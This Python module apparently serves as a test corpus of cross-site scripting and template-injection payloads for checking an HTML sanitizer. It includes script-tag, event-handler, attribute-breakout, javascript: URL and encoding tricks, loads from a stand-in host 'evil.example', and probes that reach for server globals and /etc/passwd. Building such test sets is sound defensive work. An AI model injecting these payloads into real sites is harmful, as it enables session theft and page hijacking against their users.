"""What people try in order to make a page run something of theirs: tags, attributes, addresses, encodings, templates."""

RUN = "window.ran=1"

SCRIPTS = [
    f"<script>{RUN}</script>", f"</script><script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", f"<script >{RUN}</script >", f"<script/x>{RUN}</script>", f"<script\n>{RUN}</script>", f"<<script>{RUN}//<</script>",
    f"<script src=data:text/javascript,{RUN}></script>", f"<script src=x onerror={RUN}></script>", f"<svg><script>{RUN}</script></svg>", f"<svg><script href=data:text/javascript,{RUN} />", f"<math><script>{RUN}</script></math>",
    f"<script type=module>{RUN}</script>", f"<template><script>{RUN}</script></template><script>{RUN}</script>", f"\u2028<script>{RUN}</script>", f"<scr\u00adipt>{RUN}</script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>",
]
CLOSING = [f"</{tag}><script>{RUN}</script>" for tag in ("textarea", "title", "style", "noscript", "xmp", "option", "select", "button", "a", "p", "svg", "template", "iframe")] + [
    f"--><script>{RUN}</script>", f"--!><script>{RUN}</script>", f"]]><script>{RUN}</script>", f"?><script>{RUN}</script>", f"*/<script>{RUN}</script>", f"<!--><script>{RUN}</script>", f"<![CDATA[<script>{RUN}</script>]]>",
]
BY_THEMSELVES = [
    f"<img src=x onerror={RUN}>", f"<img/src=x/onerror={RUN}>", f"<IMG SRC=x OnErRoR={RUN}>", f"<img src=x onerror\n=\n{RUN}>", f"<img src=x\x0conerror={RUN}>", f"<image src=x onerror={RUN}>", f"<input type=image src=x onerror={RUN}>",
    f"<svg onload={RUN}>", f"<svg/onload={RUN}>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><set onbegin={RUN} attributeName=x dur=1s>", f"<svg><image href=x onerror={RUN} />", f"<svg><use href=data:image/svg+xml,x onload={RUN} />",
    f"<body onload={RUN}>", f"<body onpageshow={RUN}>", f"<frameset onload={RUN}>", f"<iframe onload={RUN}></iframe>", f"<iframe srcdoc=\"<script>parent.{RUN}</script>\"></iframe>", f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<object data=x onerror={RUN}></object>", f"<embed src=x onerror={RUN}>", f"<video src=x onerror={RUN}></video>", f"<video><source onerror={RUN}></video>", f"<audio src=x onerror={RUN}></audio>", f"<link rel=stylesheet href=x onerror={RUN}>",
    f"<style onload={RUN}></style>", f"<details open ontoggle={RUN}>x</details>", f"<marquee onstart={RUN}>x</marquee>", f"<input autofocus onfocus={RUN}>", f"<select autofocus onfocus={RUN}></select>", f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<x contenteditable autofocus onfocus={RUN}>x</x>", f"<p style=animation-name:x onanimationstart={RUN}>x", f"<dialog open onbeforetoggle={RUN}>x</dialog>", f"<form action=javascript:{RUN}><button autofocus>x</button></form>",
]
IN_ATTRIBUTES = [
    f"\"><script>{RUN}</script>", f"'><script>{RUN}</script>", f"\"><img src=x onerror={RUN}>", f"'><img src=x onerror={RUN}>", f"\" autofocus onfocus={RUN} x=\"", f"' autofocus onfocus={RUN} x='", f"` onmouseover={RUN} x=`", f"\" onload={RUN} x=\"",
    f"x onerror={RUN} src=x", f"\" style=animation-name:x onanimationstart={RUN} \"", f"\\\"><img src=x onerror={RUN}>", f"&quot;><img src=x onerror={RUN}>", f"\"/><svg onload={RUN}>",
]
ADDRESSES = [
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f" javascript:{RUN}", f"javascript://%0a{RUN}", f"data:text/html,<script>parent.{RUN}</script>", f"vbscript:{RUN}", f"<a href=\"javascript:{RUN}\" autofocus>x</a>",
    f"<math><mi xlink:href=\"javascript:{RUN}\">x</mi></math>", f"<form><button formaction=javascript:{RUN} autofocus>x", f"[x](javascript:{RUN})", f"![x](x\"onerror=\"{RUN})", f"<javascript:{RUN}>", f"https://a.example/\"onmouseover=\"{RUN}",
    "<img src=http://evil.example/a.png>", "<link rel=stylesheet href=//evil.example/a.css>", "<meta http-equiv=refresh content=\"0;url=http://evil.example/\">", "<base href=http://evil.example/>", "<object data=http://evil.example/a></object>",
]
CODED = [
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;", f"&#x3c;script&#x3e;{RUN}&#x3c;/script&#x3e;", f"%3Cscript%3E{RUN}%3C/script%3E", f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e", f"\\x3cscript\\x3e{RUN}",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-", f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e", f"\u02c2script\u02c3{RUN}", f"&amp;lt;script&amp;gt;{RUN}", "<img src=x onerror=&#119;indow.ran=1>",
]
EXPRESSIONS = [
    "{{7*7}}{% raw %}", f"{{{{constructor.constructor('{RUN}')()}}}}", "{{cycler.__init__.__globals__}}", "{{''.__class__.__mro__}}", f"${{{RUN}}}", f"#{{{RUN}}}", f"<%= {RUN} %>", f"[[{RUN}]]", "{% include '/etc/passwd' %}", "%(x)s{0}",
    f"**<img src=x onerror={RUN}>**", f"*<svg onload={RUN}>*", f"**bold\" onclick={RUN} x=\"**", f"';{RUN};'", f"\";{RUN};//", f"</style><style>@import 'http://evil.example/a.css';*{{background:url(javascript:{RUN})}}</style>", f"';{RUN}//\\';{RUN}//\";{RUN}//--></script>\">'><svg onload={RUN}>",
]
ALL = list(dict.fromkeys([*SCRIPTS, *CLOSING, *BY_THEMSELVES, *IN_ATTRIBUTES, *ADDRESSES, *CODED, *EXPRESSIONS]))
